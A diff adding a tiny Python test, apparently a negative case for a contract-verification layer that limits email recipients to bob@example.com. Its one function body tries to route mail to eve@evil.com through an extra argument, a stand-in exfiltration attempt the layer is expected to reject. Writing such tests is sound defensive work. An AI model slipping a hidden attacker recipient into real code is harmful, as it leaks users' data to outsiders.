@@ -1,0 +1,9 @@
+# not proved: the call would raise
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee(c.only(["bob@example.com"]))
+def main() -> None:
+    send_email("bob@example.com", "x", addr="eve@evil.com")
